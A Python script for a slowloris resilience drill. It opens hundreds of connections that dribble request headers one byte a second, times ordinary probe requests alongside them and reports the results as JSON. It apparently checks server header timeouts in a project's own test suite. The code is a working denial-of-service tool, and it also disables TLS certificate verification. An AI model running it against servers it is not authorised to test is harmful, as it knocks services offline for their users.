#!/usr/bin/env python3
"""A slowloris drill: many connections that each send a request head one byte a second,
while a probe sends ordinary requests beside them and times each.

    python3 Ops/deploy/slowloris.py --port 443 --tls --connections 300 --seconds 15

Prints one JSON line: how many slow connections were opened, how many the server closed
(and after how long), and how the probes fared. FrontTests runs it through nginx-ledger.conf
and straight against `ledger serve`; an operator can run it against a staging front.
"""
import argparse
import http.client
import json
import selectors
import socket
import ssl
import threading
import time


def tls_context():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE   # the drill's front has a throwaway certificate
    return context


def open_slow(host, port, tls, context):
    raw = socket.create_connection((host, port), timeout=5)
    sock = context.wrap_socket(raw, server_hostname=host) if tls else raw
    sock.sendall(b"GET /healthz HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: ")
    sock.setblocking(False)
    return sock


def probe(host, port, tls, context, path, stop, results):
    while not stop.is_set():
        started = time.monotonic()
        try:
            if tls:
                connection = http.client.HTTPSConnection(host, port, timeout=5, context=context)
            else:
                connection = http.client.HTTPConnection(host, port, timeout=5)
            connection.request("GET", path, headers={"Connection": "close"})
            status = connection.getresponse().status
            connection.close()
        except Exception as error:   # a refused, reset or timed-out probe is a failure
            status = type(error).__name__
        results.append((status, time.monotonic() - started))
        stop.wait(0.25)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--connections", type=int, default=300)
    parser.add_argument("--seconds", type=float, default=15)
    parser.add_argument("--probe-path", default="/healthz")
    args = parser.parse_args()
    context = tls_context()

    selector = selectors.DefaultSelector()
    opened, failed = {}, 0
    began = time.monotonic()
    for _ in range(args.connections):
        try:
            sock = open_slow(args.host, args.port, args.tls, context)
            opened[sock] = time.monotonic()
            selector.register(sock, selectors.EVENT_READ)
        except Exception:
            failed += 1

    stop = threading.Event()
    probes = []
    prober = threading.Thread(target=probe, args=(args.host, args.port, args.tls, context, args.probe_path, stop, probes))
    prober.start()

    closed = {}     # socket -> seconds it lived
    answered = 0    # slow connections that got an answer (bytes) before they closed
    next_byte = time.monotonic() + 1
    # The attack lasts --seconds from the moment every slow connection is open, so on a
    # loaded machine (opening 300 TLS connections can take seconds) each one still
    # outlives a 10 s header timeout.
    opened_all = time.monotonic()
    deadline = opened_all + args.seconds
    while time.monotonic() < deadline:
        for key, _ in selector.select(timeout=0.2):
            sock = key.fileobj
            try:
                data = sock.recv(4096)
            except (ssl.SSLWantReadError, BlockingIOError):
                continue
            except OSError:
                data = b""
            if data:
                answered += 1
                continue
            selector.unregister(sock)
            closed[sock] = time.monotonic() - opened[sock]
            sock.close()
        if time.monotonic() >= next_byte:
            next_byte += 1
            for sock in list(opened):
                if sock in closed:
                    continue
                try:
                    sock.send(b"a")
                except (ssl.SSLWantWriteError, BlockingIOError):
                    pass
                except OSError:
                    selector.unregister(sock)
                    closed[sock] = time.monotonic() - opened[sock]
                    sock.close()
    stop.set()
    prober.join()
    still_open = [s for s in opened if s not in closed]
    for sock in still_open:
        sock.close()

    good = [seconds for status, seconds in probes if status == 200]
    print(json.dumps({
        "slow_opened": len(opened),
        "slow_open_failed": failed,
        "slow_open_took_s": round(opened_all - began, 2),
        "slow_closed_by_server": len(closed),
        "slow_still_open": len(still_open),
        "slow_answered": answered,
        "slow_shortest_life_s": round(min(closed.values()), 2) if closed else None,
        "slow_longest_life_s": round(max(closed.values()), 2) if closed else None,
        "probes": len(probes),
        "probes_ok": len(good),
        "probes_failed": [str(status) for status, _ in probes if status != 200],
        "probe_slowest_s": round(max(seconds for _, seconds in probes), 3) if probes else None,
    }))


if __name__ == "__main__":
    main()
